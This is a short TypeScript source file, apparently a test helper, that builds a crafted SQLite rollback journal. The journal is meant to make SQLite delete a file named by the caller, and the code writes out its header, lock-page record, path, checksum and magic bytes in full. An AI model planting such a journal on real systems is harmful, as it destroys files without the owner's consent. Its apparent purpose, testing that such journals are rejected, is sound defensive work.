/**
 * A malicious rollback journal: it has no pages and names a file that SQLite deletes after the
 * rollback (SQLite's file format, §3).
 */

const MAGIC = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
const SECTOR = 512;
const PAGE = 4096;
/** The page with SQLite's locks, which never has content. */
const LOCK_PAGE = 0x40000000 / PAGE + 1;

/** Returns the bytes of a journal that names a file. */
export function superJournal(path: string): Uint8Array<ArrayBuffer> {
  const name = new TextEncoder().encode(path);
  const bytes = new Uint8Array(SECTOR + 4 + name.length + 16);
  const view = new DataView(bytes.buffer);
  bytes.set(MAGIC);
  view.setUint32(16, 2);
  view.setUint32(20, SECTOR);
  view.setUint32(24, PAGE);
  view.setUint32(SECTOR, LOCK_PAGE);
  bytes.set(name, SECTOR + 4);
  const end = SECTOR + 4 + name.length;
  view.setUint32(end, name.length);
  view.setUint32(end + 4, name.reduce((sum, byte) => sum + byte, 0));
  bytes.set(MAGIC, end + 8);
  return bytes;
}
